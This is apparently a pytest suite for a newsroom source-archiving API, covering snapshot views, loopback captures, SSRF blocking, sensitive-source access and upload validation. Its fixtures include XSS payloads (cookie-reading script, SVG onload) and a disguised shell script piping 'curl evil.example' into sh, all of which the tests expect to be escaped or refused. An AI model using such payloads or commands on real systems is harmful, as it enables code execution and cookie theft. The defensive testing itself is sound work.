"""Snapshots over the API: list, detail, WARC, text and file views, asking for a capture (and
running it against a real page on loopback), uploads; sensitive sources stay hidden."""

from __future__ import annotations

import hashlib
import io
import os
import threading
import uuid
from collections import Counter
from collections.abc import Iterator
from datetime import UTC, datetime
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
from django.conf import settings
from django.contrib.auth.models import User
from django.core.files.base import ContentFile
from django.core.files.uploadedfile import SimpleUploadedFile
from rest_framework.test import APIClient
from warcio.archiveiterator import ArchiveIterator

from sources.archiving.fetch import Exchange
from sources.archiving.services import snapshot_upload
from sources.archiving.warc import build_warc
from sources.models import Snapshot, Source
from sources.services import source_create
from tests.api.helpers import api, assert_error
from tests.factories import ClaimFactory, EvidenceFactory, SourceFactory, grant

pytestmark = pytest.mark.django_db

FIXTURES = Path(__file__).resolve().parent.parent / "fixtures" / "capture"
PDF = (FIXTURES / "report.pdf").read_bytes()
PDF_TITLE = "Verification note: reported deaths of two Chinese volunteers"
PAGE = (
    b"<html><head><title>Two fighters killed, channel says</title></head><body>"
    b"<p>The channel said two men were killed.</p><script>alert(document.cookie)</script>"
    b"</body></html>"
)
TEXT = "The channel said two men were killed.\n<script>alert(document.cookie)</script>"
SAFE = {"X-Content-Type-Options": "nosniff"}
CSP = "default-src 'none'; sandbox"
READ_VIEWS = ("detail", "warc", "text")
NEW_FROM_UPLOAD = "/api/v1/sources/uploads/"


# --- Rows and files ------------------------------------------------------------------------------


def archived_snapshot(source: Source, **fields: Any) -> Snapshot:
    """An archived capture of ``source`` with a real WARC, as the capture service leaves one."""
    now = datetime.now(UTC)
    exchange = Exchange(
        url=source.url,
        method="GET",
        target="/story",
        request_headers=[("Host", "news.example"), ("User-Agent", "Claimtrail test")],
        remote_address="203.0.113.7",
        remote_port=443,
        started_at=now,
        status=200,
        reason="OK",
        headers=[("Content-Type", "text/html; charset=utf-8")],
        raw_body=PAGE,
        body=PAGE,
    )
    values: dict[str, Any] = {
        "url": source.url,
        "status": Snapshot.Status.ARCHIVED,
        "fetch_url": source.url,
        "final_url": source.url,
        "redirects": [{"url": "http://news.example/s", "status": 301, "location": source.url}],
        "remote_address": "203.0.113.7",
        "http_status": 200,
        "content_type": "text/html; charset=utf-8",
        "size": len(PAGE),
        "sha256": hashlib.sha256(PAGE).hexdigest(),
        "title": "Two fighters killed, channel says",
        "text": TEXT,
        "attempts": 1,
        "started_at": now,
        "finished_at": now,
        **fields,
    }
    snapshot = Snapshot(source=source, **values)
    warc = build_warc([exchange], info={"source": str(source.pk)})
    snapshot.warc.save(f"warc/test/{uuid.uuid4().hex}.warc.gz", ContentFile(warc), save=False)
    snapshot.save()
    return snapshot


def pending_snapshot(source: Source) -> Snapshot:
    return Snapshot.objects.create(source=source, url=source.url, fetch_url=source.url)


def uploaded_snapshot(source: Source, actor: User, name: str = "report.pdf") -> Snapshot:
    upload = SimpleUploadedFile(name, PDF, content_type="application/pdf")
    return snapshot_upload(source=source, upload=upload, actor=actor, filename=name)


def stored_files() -> set[str]:
    """Every file in the archive storage (a fresh folder per test)."""
    root = settings.STORAGES["archives"]["OPTIONS"]["location"]
    return {
        os.path.relpath(os.path.join(folder, name), root)
        for folder, _, names in os.walk(root)
        for name in names
    }


def written() -> tuple[int, int, set[str]]:
    return Source.objects.count(), Snapshot.objects.count(), stored_files()


def path(view: str, snapshot: Snapshot | int) -> str:
    pk = snapshot if isinstance(snapshot, int) else snapshot.pk
    suffix = "" if view == "detail" else f"{view}/"
    return f"/api/v1/snapshots/{pk}/{suffix}"


def snapshots_of(source: Source | int) -> str:
    pk = source if isinstance(source, int) else source.pk
    return f"/api/v1/sources/{pk}/snapshots/"


def body_of(response: Any) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


@pytest.fixture
def source(editor) -> Source:
    return SourceFactory(created_by=editor, url="https://news.example/story", title="")


# --- A real web page on loopback -----------------------------------------------------------------


class LocalSite:
    """A web server on 127.0.0.1: ``pages[path] = (status, content type, body)``; counts hits."""

    def __init__(self) -> None:
        self.pages: dict[str, tuple[int, str, bytes]] = {}
        self.hits: Counter[str] = Counter()
        site = self

        class Handler(BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.1"

            def log_message(self, *args: Any) -> None:
                pass

            def do_GET(self) -> None:
                page = self.path.split("?", 1)[0]
                site.hits[page] += 1
                code, content_type, body = site.pages.get(page, (404, "text/plain", b"Not found"))
                self.send_response(code)
                self.send_header("Content-Type", content_type)
                self.send_header("Content-Length", str(len(body)))
                self.send_header("Connection", "close")
                self.end_headers()
                self.wfile.write(body)

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)

    def url(self, page: str, host: str = "news.example") -> str:
        return f"http://{host}:{self.server.server_address[1]}{page}"

    def __enter__(self) -> LocalSite:
        self.thread.start()
        return self

    def __exit__(self, *exc_info: object) -> None:
        self.server.shutdown()
        self.server.server_close()
        self.thread.join(timeout=5)


@pytest.fixture(name="site")
def site_fixture(dns) -> Iterator[LocalSite]:
    """``news.example`` resolves to the site; it is fetched only where a test allow-lists
    127.0.0.1 (``fetch_allowed``)."""
    with LocalSite() as running:
        dns["news.example"] = ["127.0.0.1"]
        running.pages["/article"] = (200, "text/html; charset=utf-8", _article())
        yield running


def _article() -> bytes:
    return (FIXTURES / "article.html").read_bytes()


# --- GET /sources/{id}/snapshots/ ----------------------------------------------------------------


def test_snapshot_list_shows_a_sources_snapshots_newest_first_without_their_text(
    viewer, source, editor
):
    old = archived_snapshot(source, created_by=editor)
    new = pending_snapshot(source)

    response = api(viewer).get(snapshots_of(source))

    assert response.status_code == 200
    rows = response.json()["results"]
    assert [row["id"] for row in rows] == [new.pk, old.pk]
    assert "text" not in rows[0]
    archived = rows[1]
    assert archived["status"] == "archived"
    assert archived["sha256"] == hashlib.sha256(PAGE).hexdigest()
    assert archived["created_by"] == "edith_editor"
    assert archived["warc_url"] == f"http://testserver{path('warc', old)}"
    assert archived["text_url"] == f"http://testserver{path('text', old)}"
    assert archived["file_url"] is None
    assert (rows[0]["status"], rows[0]["warc_url"], rows[0]["text_url"]) == ("pending", None, None)


def test_snapshot_list_of_a_missing_source_is_a_404(viewer):
    assert_error(api(viewer).get(snapshots_of(999999)), 404)


def test_snapshot_list_refuses_an_unknown_parameter(viewer, source):
    assert_error(api(viewer).get(snapshots_of(source), {"page_size": "many"}), 400, "page_size")


# --- GET /snapshots/{id}/ ------------------------------------------------------------------------


def test_snapshot_detail_has_the_text_redirects_and_address(viewer, source):
    snapshot = archived_snapshot(source)

    body = api(viewer).get(path("detail", snapshot)).json()

    assert body["text"] == TEXT
    assert body["redirects"] == [
        {"url": "http://news.example/s", "status": 301, "location": source.url}
    ]
    assert body["remote_address"] == "203.0.113.7"
    assert (body["source"], body["form"], body["http_status"]) == (source.pk, "page", 200)


@pytest.mark.parametrize("role", ["viewer", "fact_checker", "editor"])
@pytest.mark.parametrize("view", READ_VIEWS)
def test_every_newsroom_role_reads_snapshots(users_by_role, source, role, view):
    snapshot = archived_snapshot(source)
    assert api(users_by_role[role]).get(path(view, snapshot)).status_code == 200
    assert api(users_by_role[role]).get(snapshots_of(source)).status_code == 200


@pytest.mark.parametrize("view", (*READ_VIEWS, "file", "list"))
def test_snapshots_refuse_the_anonymous_and_the_roleless(outsider, source, view):
    snapshot = archived_snapshot(source)
    url = snapshots_of(source) if view == "list" else path(view, snapshot)
    assert_error(api().get(url), 401)
    assert_error(api(outsider).get(url), 403)


# --- Sensitive sources ---------------------------------------------------------------------------


@pytest.mark.parametrize("view", (*READ_VIEWS, "file", "list"))
def test_snapshots_of_a_hidden_source_are_404_like_missing_ones(viewer, editor, hidden, view):
    snapshot = uploaded_snapshot(hidden, editor) if view == "file" else archived_snapshot(hidden)
    url = snapshots_of(hidden) if view == "list" else path(view, snapshot)
    missing = snapshots_of(999999) if view == "list" else path(view, 999999)

    response = api(viewer).get(url)

    assert_error(response, 404)
    assert response.json() == api(viewer).get(missing).json()
    assert b"informant" not in response.content


def test_a_fact_checker_not_on_the_claim_does_not_see_a_hidden_sources_snapshot(
    fact_checker, hidden
):
    EvidenceFactory(source=hidden)  # someone else's claim
    assert_error(api(fact_checker).get(path("detail", archived_snapshot(hidden))), 404)


def test_the_claims_own_assignee_does_not_see_a_hidden_sources_snapshot(fact_checker, hidden):
    EvidenceFactory(claim=ClaimFactory(assignee=fact_checker), source=hidden, added_by=fact_checker)
    snapshot = archived_snapshot(hidden)

    assert_error(api(fact_checker).get(path("detail", snapshot)), 404)
    assert_error(api(fact_checker).get(path("warc", snapshot)), 404)


def test_a_fact_checker_granted_it_and_an_editor_see_a_hidden_sources_snapshots(
    fact_checker, editor, hidden
):
    grant(hidden, fact_checker, by=editor)
    snapshot = archived_snapshot(hidden)
    for user in (fact_checker, editor):
        assert api(user).get(path("detail", snapshot)).status_code == 200
        assert api(user).get(path("warc", snapshot)).status_code == 200


# --- GET /snapshots/{id}/warc/ -------------------------------------------------------------------


def test_warc_is_streamed_as_an_attachment_with_safe_headers(viewer, source):
    snapshot = archived_snapshot(source)

    response = api(viewer).get(path("warc", snapshot))

    assert response.status_code == 200
    assert response.streaming
    assert response["Content-Type"] == "application/warc"
    assert response["Content-Disposition"] == (
        f'attachment; filename="snapshot-{snapshot.pk}.warc.gz"'
    )
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Content-Security-Policy"] == CSP
    assert "Content-Encoding" not in response  # the gzip is the file's, not the transfer's
    data = body_of(response)
    with snapshot.warc.open("rb") as stored:
        assert data == stored.read()
    records = [record.rec_type for record in ArchiveIterator(io.BytesIO(data))]
    assert sorted(records) == ["request", "response", "warcinfo"]


@pytest.mark.parametrize("kind", ["pending", "upload"])
def test_a_snapshot_without_a_warc_is_a_404_in_the_error_shape(viewer, editor, source, kind):
    snapshot = pending_snapshot(source) if kind == "pending" else uploaded_snapshot(source, editor)

    response = api(viewer).get(path("warc", snapshot))

    assert_error(response, 404)
    assert response.json()["code"] == "not_found"
    assert "no WARC" in response.json()["message"]


def test_a_warc_lost_from_storage_is_a_404_not_a_500(viewer, source):
    snapshot = archived_snapshot(source)
    snapshot.warc.storage.delete(snapshot.warc.name)

    assert_error(api(viewer).get(path("warc", snapshot)), 404)


# --- GET /snapshots/{id}/text/ -------------------------------------------------------------------


def test_text_view_is_plain_text_with_a_header_block_and_safe_headers(viewer, source):
    snapshot = archived_snapshot(source)

    response = api(viewer).get(path("text", snapshot))

    assert response.status_code == 200
    assert response["Content-Type"] == "text/plain; charset=utf-8"
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Content-Security-Policy"] == CSP
    text = response.content.decode()
    header, _, rest = text.partition("-" * 72)
    assert f"URL:          {source.url}" in header
    assert f"SHA-256:      {snapshot.sha256}" in header
    assert "Status:       archived" in header
    assert f"Captured at:  {snapshot.finished_at.isoformat()}" in header
    # The page's markup is never sent as HTML: the text is there as plain characters.
    assert rest.strip() == TEXT


def test_text_view_header_cannot_be_forged_by_a_title_with_newlines(viewer, source):
    snapshot = archived_snapshot(source, title="Real\nSHA-256:      0000forged")

    header = api(viewer).get(path("text", snapshot)).content.decode().split("-" * 72)[0]

    assert [line for line in header.splitlines() if line.startswith("SHA-256:")] == [
        f"SHA-256:      {snapshot.sha256}"
    ]
    assert "Title:        Real SHA-256:      0000forged" in header


def test_text_view_of_a_snapshot_not_yet_archived_is_a_404(viewer, source):
    assert_error(api(viewer).get(path("text", pending_snapshot(source))), 404)


# --- GET /snapshots/{id}/file/ -------------------------------------------------------------------


def test_uploaded_file_is_an_attachment_of_its_sniffed_type(viewer, editor, source):
    snapshot = uploaded_snapshot(source, editor)

    response = api(viewer).get(path("file", snapshot))

    assert response.status_code == 200
    assert response["Content-Type"] == "application/pdf"
    assert response["Content-Disposition"] == 'attachment; filename="report.pdf"'
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Content-Security-Policy"] == CSP
    assert body_of(response) == PDF


def test_a_pdf_uploaded_under_an_html_name_downloads_as_a_pdf(viewer, editor, source):
    snapshot = uploaded_snapshot(source, editor, name="note.html")

    response = api(viewer).get(path("file", snapshot))

    assert response["Content-Disposition"] == 'attachment; filename="note.html.pdf"'
    assert response["Content-Type"] == "application/pdf"


def test_a_text_upload_downloads_as_utf8_text(viewer, editor, source):
    upload = SimpleUploadedFile("letter.txt", "Письмо: ответа нет.".encode())
    snapshot = snapshot_upload(source=source, upload=upload, actor=editor, filename="letter.txt")

    response = api(viewer).get(path("file", snapshot))

    assert response["Content-Type"] == "text/plain; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="letter.txt"'


def test_a_stored_file_of_any_other_type_is_never_served_as_it(viewer, source):
    snapshot = Snapshot(source=source, form="upload", status="archived", sha256="0" * 64)
    snapshot.content_type = "text/html"
    snapshot.file.save("uploads/page.html", ContentFile(PAGE), save=False)
    snapshot.save()

    response = api(viewer).get(path("file", snapshot))

    assert response["Content-Type"] == "application/octet-stream"
    assert response["Content-Disposition"].startswith("attachment;")


def test_a_capture_has_no_file(viewer, source):
    response = api(viewer).get(path("file", archived_snapshot(source)))
    assert_error(response, 404)
    assert response.json()["code"] == "not_found"


# --- POST /sources/{id}/snapshots/ ---------------------------------------------------------------


def test_a_viewer_may_not_ask_for_a_capture(viewer, source):
    response = api(viewer).post(snapshots_of(source), {}, format="json")

    assert_error(response, 403)
    assert not Snapshot.objects.exists()


def test_a_fact_checker_asks_for_a_capture_and_gets_the_waiting_one_twice(fact_checker, source):
    first = api(fact_checker).post(snapshots_of(source), {}, format="json")
    again = api(fact_checker).post(snapshots_of(source), {"run": False}, format="json")

    assert (first.status_code, again.status_code) == (202, 202)
    assert first.json()["id"] == again.json()["id"]
    assert first.json()["status"] == "pending"
    snapshot = Snapshot.objects.get()
    assert (snapshot.created_by, snapshot.url) == (fact_checker, source.url)


def test_a_source_without_a_url_cannot_be_captured(fact_checker):
    letter = SourceFactory(url="", canonical_url=None, kind=Source.Kind.CORRESPONDENCE)
    assert_error(api(fact_checker).post(snapshots_of(letter), {}, format="json"), 400, "url")


def test_asking_for_a_capture_of_a_hidden_source_is_a_404(fact_checker, hidden):
    assert_error(api(fact_checker).post(snapshots_of(hidden), {}, format="json"), 404)
    assert not Snapshot.objects.exists()


def test_run_captures_a_local_page_now(fact_checker, viewer, site, fetch_allowed):
    expected = __import__("json").loads((FIXTURES / "article.expected.json").read_text())
    page = source_create(actor=viewer, kind="article", url=site.url("/article"))
    waiting = page.snapshots.get()

    response = api(fact_checker).post(snapshots_of(page), {"run": True}, format="json")

    assert response.status_code == 200, response.json()  # the one waiting since source_create
    body = response.json()
    assert body["id"] == waiting.pk
    assert (body["status"], body["http_status"], body["error_code"]) == ("archived", 200, "")
    assert body["sha256"] == hashlib.sha256(_article()).hexdigest()
    assert body["title"] == expected["title"]
    assert body["author"] == expected["author"]
    assert body["remote_address"] == "127.0.0.1"
    assert expected["must_contain"][0] in body["text"]
    assert site.hits["/article"] == 1
    warc = body_of(api(viewer).get(body["warc_url"]))
    uris = [r.rec_headers.get_header("WARC-Target-URI") for r in ArchiveIterator(io.BytesIO(warc))]
    assert site.url("/article") in uris
    page.refresh_from_db()
    assert (page.title, page.author) == (expected["title"], expected["author"])
    assert api(viewer).get(f"/api/v1/sources/{page.pk}/").json()["capture"] == {
        "snapshot": waiting.pk,
        "status": "archived",
        "error_message": "",
    }


def test_run_again_records_the_same_document_once(fact_checker, viewer, site, fetch_allowed):
    page = source_create(actor=viewer, kind="article", url=site.url("/article"))
    client = api(fact_checker)
    first = client.post(snapshots_of(page), {"run": True}, format="json").json()

    response = client.post(snapshots_of(page), {"run": True}, format="json")

    assert response.status_code == 201  # a new snapshot, made and captured by this request
    again = response.json()
    assert again["id"] != first["id"]
    assert again["status"] == "archived"
    assert again["duplicate_of"] == first["id"]
    assert again["sha256"] == first["sha256"]
    assert len([name for name in stored_files() if name.startswith("warc/")]) == 1


def test_run_records_a_404_page_as_failed(fact_checker, editor, site, fetch_allowed):
    gone = SourceFactory(created_by=editor, url=site.url("/gone"))

    response = api(fact_checker).post(snapshots_of(gone), {"run": True}, format="json")

    assert response.status_code == 201
    body = response.json()
    assert (body["status"], body["error_code"], body["http_status"]) == ("failed", "http_404", 404)
    assert "404" in body["error_message"]


def test_run_against_a_loopback_address_is_blocked_without_a_request(fact_checker, editor, site):
    internal = SourceFactory(created_by=editor, url=site.url("/article"))  # not allow-listed

    body = api(fact_checker).post(snapshots_of(internal), {"run": True}, format="json").json()

    assert body["status"] == "blocked"
    assert body["error_code"]
    assert body["warc_url"] is None
    assert site.hits == Counter()


def test_run_after_a_transient_failure_leaves_it_pending_with_the_reason(
    fact_checker, editor, site, fetch_allowed
):
    site.pages["/busy"] = (503, "text/plain", b"Try later")
    busy = SourceFactory(created_by=editor, url=site.url("/busy"))

    response = api(fact_checker).post(snapshots_of(busy), {"run": True}, format="json")

    assert response.status_code == 201
    body = response.json()
    assert (body["status"], body["attempts"], body["error_code"]) == ("pending", 1, "http_503")
    assert "will try again" in body["error_message"]
    assert body["retry_at"] is not None


# --- The source's capture summary ----------------------------------------------------------------


def test_source_detail_and_list_carry_the_latest_snapshot_in_brief(viewer, source):
    archived_snapshot(source)
    latest = Snapshot.objects.create(
        source=source,
        url=source.url,
        status=Snapshot.Status.FAILED,
        error_code="http_404",
        error_message="The site answered 404 Not Found.",
    )
    expected = {
        "snapshot": latest.pk,
        "status": "failed",
        "error_message": "The site answered 404 Not Found.",
    }

    assert api(viewer).get(f"/api/v1/sources/{source.pk}/").json()["capture"] == expected
    assert api(viewer).get("/api/v1/sources/").json()["results"][0]["capture"] == expected


def test_a_source_never_captured_has_no_capture_summary(viewer, source):
    assert api(viewer).get(f"/api/v1/sources/{source.pk}/").json()["capture"] is None


# --- POST /sources/{id}/uploads/ -----------------------------------------------------------------


def uploads_of(source: Source | int) -> str:
    pk = source if isinstance(source, int) else source.pk
    return f"/api/v1/sources/{pk}/uploads/"


def pdf(name: str = "report.pdf") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, PDF, content_type="application/pdf")


def test_a_viewer_uploads_a_pdf_to_a_source(viewer, source):
    response = api(viewer).post(uploads_of(source), {"file": pdf()}, format="multipart")

    assert response.status_code == 201, response.json()
    body = response.json()
    assert (body["form"], body["status"], body["content_type"]) == (
        "upload",
        "archived",
        "application/pdf",
    )
    assert (body["sha256"], body["size"]) == (hashlib.sha256(PDF).hexdigest(), len(PDF))
    assert (body["filename"], body["title"]) == ("report.pdf", PDF_TITLE)
    assert "Sprite and Cola" in body["text"]
    assert body["file_url"].endswith(path("file", body["id"]))
    assert body_of(api(viewer).get(body["file_url"])) == PDF
    source.refresh_from_db()
    assert source.title == PDF_TITLE  # a blank title is filled from the document


def test_an_upload_spooled_to_disk_is_stored_whole(viewer, source, settings):
    settings.FILE_UPLOAD_MAX_MEMORY_SIZE = 1024  # Django writes larger files to a temporary file

    response = api(viewer).post(uploads_of(source), {"file": pdf()}, format="multipart")

    assert response.status_code == 201, response.json()
    assert response.json()["title"] == PDF_TITLE
    assert body_of(api(viewer).get(response.json()["file_url"])) == PDF


REFUSED_FILES = {
    "empty": (SimpleUploadedFile("empty.pdf", b""), "empty"),
    "html": (
        SimpleUploadedFile("page.html", b"<!doctype html><script>alert(1)</script>"),
        "unsupported_type",
    ),
    "svg": (
        SimpleUploadedFile(
            "chart.svg", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
        ),
        "unsupported_type",
    ),
    "renamed_script": (
        SimpleUploadedFile("report.pdf", b"#!/bin/sh\ncurl evil.example | sh\n"),
        "unsupported_type",
    ),
    "not_a_file": ("just some text", "invalid"),
}


def _refused(case: str) -> tuple[Any, str]:
    upload, code = REFUSED_FILES[case]
    if isinstance(upload, SimpleUploadedFile):
        upload.seek(0)
    return upload, code


@pytest.mark.parametrize("case", sorted(REFUSED_FILES))
def test_a_refused_upload_is_a_400_on_file_and_writes_nothing(viewer, source, case):
    upload, code = _refused(case)
    before = written()

    response = api(viewer).post(uploads_of(source), {"file": upload}, format="multipart")

    assert_error(response, 400, "file")
    assert response.json()["fields"]["file"][0]["code"] == code
    assert written() == before


def test_an_upload_without_a_file_is_a_400_on_file(viewer, source):
    response = api(viewer).post(uploads_of(source), {}, format="multipart")

    assert_error(response, 400, "file")
    assert response.json()["fields"]["file"][0]["code"] == "required"


def test_an_upload_over_the_file_limit_is_a_400_on_file(viewer, source, settings):
    settings.CLAIMTRAIL_UPLOAD_MAX_BYTES = 1024
    before = written()

    response = api(viewer).post(uploads_of(source), {"file": pdf()}, format="multipart")

    assert_error(response, 400, "file")
    assert response.json()["fields"]["file"][0]["code"] == "too_large"
    assert written() == before


def test_a_body_far_over_the_limit_is_refused_before_it_is_read(viewer, source, settings):
    settings.CLAIMTRAIL_UPLOAD_MAX_BYTES = 1024
    settings.API_MAX_BODY_BYTES = 512
    big = SimpleUploadedFile("big.pdf", PDF * 4)
    before = written()

    response = api(viewer).post(uploads_of(source), {"file": big}, format="multipart")

    assert_error(response, 413)
    assert response.json()["code"] == "too_large"
    assert written() == before


def test_an_upload_must_be_multipart(viewer, source):
    response = api(viewer).post(uploads_of(source), {"file": "x"}, format="json")

    assert_error(response, 415)
    assert response.json()["code"] == "unsupported_media_type"


def test_a_multipart_body_without_a_boundary_is_a_400(viewer, source):
    response = api(viewer).generic(
        "POST", uploads_of(source), b"garbage", content_type="multipart/form-data"
    )
    assert_error(response, 400)
    assert response.json()["code"] == "parse_error"


def test_an_upload_to_a_hidden_source_is_a_404_and_writes_nothing(viewer, hidden):
    before = written()
    assert_error(api(viewer).post(uploads_of(hidden), {"file": pdf()}, format="multipart"), 404)
    assert written() == before


def test_the_same_document_uploaded_twice_is_stored_once(viewer, source):
    client = api(viewer)
    client.post(uploads_of(source), {"file": pdf()}, format="multipart")
    client.post(uploads_of(source), {"file": pdf("copy.pdf")}, format="multipart")

    assert source.snapshots.count() == 2
    assert len(stored_files()) == 1


# --- Uploads from a browser session (Django parses the form for the CSRF check) ------------------

CSRF = "a" * 32


def _browser(user: User) -> APIClient:
    client = APIClient(enforce_csrf_checks=True)
    client.force_login(user)
    client.cookies["csrftoken"] = CSRF
    return client


def test_a_browser_session_uploads_with_its_csrf_token(viewer, source):
    response = _browser(viewer).post(
        uploads_of(source), {"file": pdf()}, format="multipart", HTTP_X_CSRFTOKEN=CSRF
    )
    assert response.status_code == 201, response.json()


def test_a_browser_session_upload_without_its_csrf_token_is_refused(viewer, source):
    before = written()
    assert_error(_browser(viewer).post(uploads_of(source), {"file": pdf()}), 403)
    assert written() == before


@pytest.mark.parametrize("browser", [False, True], ids=["token", "session"])
def test_a_form_field_over_djangos_memory_limit_is_a_413_not_a_500(viewer, browser, settings):
    settings.DATA_UPLOAD_MAX_MEMORY_SIZE = 1000
    client = _browser(viewer) if browser else api(viewer)
    before = written()

    response = client.post(
        "/api/v1/sources/uploads/",
        {"file": pdf(), "summary": "x" * 5000},
        format="multipart",
        HTTP_X_CSRFTOKEN=CSRF,
    )

    assert_error(response, 413)
    assert written() == before


@pytest.mark.parametrize("browser", [False, True], ids=["token", "session"])
def test_too_many_form_fields_is_a_400_not_a_500(viewer, browser, settings):
    settings.DATA_UPLOAD_MAX_NUMBER_FIELDS = 3
    client = _browser(viewer) if browser else api(viewer)
    fields = {f"field{i}": "x" for i in range(10)}

    response = client.post(
        "/api/v1/sources/uploads/",
        {"file": pdf(), **fields},
        format="multipart",
        HTTP_X_CSRFTOKEN=CSRF,
    )

    assert_error(response, 400)


@pytest.mark.parametrize("browser", [False, True], ids=["token", "session"])
def test_too_many_files_is_a_400_not_a_500(viewer, browser, settings):
    settings.DATA_UPLOAD_MAX_NUMBER_FILES = 1
    client = _browser(viewer) if browser else api(viewer)
    before = written()

    response = client.post(
        NEW_FROM_UPLOAD,
        {"file": pdf(), "attachment": pdf("second.pdf")},
        format="multipart",
        HTTP_X_CSRFTOKEN=CSRF,
    )

    assert_error(response, 400)
    assert written() == before


# --- POST /sources/uploads/ ----------------------------------------------------------------------


def test_a_document_becomes_a_source_with_its_snapshot(viewer):
    response = api(viewer).post(
        NEW_FROM_UPLOAD,
        {"file": pdf(), "summary": "The desk's own note.", "is_sensitive": "true"},
        format="multipart",
    )

    assert response.status_code == 201, response.json()
    body = response.json()
    source = Source.objects.get()
    snapshot = source.snapshots.get()
    assert body["source"]["id"] == source.pk
    assert body["snapshot"]["id"] == snapshot.pk
    assert (source.kind, source.url, source.title, source.is_sensitive) == (
        "document",
        "",
        PDF_TITLE,
        True,
    )
    assert (source.created_by, snapshot.created_by) == (viewer, viewer)
    assert body["source"]["capture"] == {
        "snapshot": snapshot.pk,
        "status": "archived",
        "error_message": "",
    }
    assert api(viewer).get(path("file", snapshot)).status_code == 200


def test_a_source_from_an_upload_keeps_the_title_given(viewer):
    response = api(viewer).post(
        NEW_FROM_UPLOAD,
        {"file": pdf(), "title": "Letter from the ministry", "kind": "correspondence"},
        format="multipart",
    )
    assert (response.json()["source"]["title"], response.json()["source"]["kind"]) == (
        "Letter from the ministry",
        "correspondence",
    )


@pytest.mark.parametrize("case", sorted(REFUSED_FILES))
def test_a_refused_file_writes_neither_source_nor_snapshot(viewer, case):
    upload, code = _refused(case)
    before = written()

    response = api(viewer).post(
        NEW_FROM_UPLOAD, {"file": upload, "title": "Half"}, format="multipart"
    )

    assert_error(response, 400, "file")
    assert response.json()["fields"]["file"][0]["code"] == code
    assert written() == before


def test_a_refused_source_field_writes_nothing(viewer):
    before = written()

    response = api(viewer).post(
        NEW_FROM_UPLOAD, {"file": pdf(), "language": "Not a code!"}, format="multipart"
    )

    assert_error(response, 400, "language")
    assert written() == before


def test_an_outsider_may_not_log_a_source_from_a_file(outsider):
    before = written()
    assert_error(api(outsider).post(NEW_FROM_UPLOAD, {"file": pdf()}, format="multipart"), 403)
    assert_error(api().post(NEW_FROM_UPLOAD, {"file": pdf()}, format="multipart"), 401)
    assert written() == before
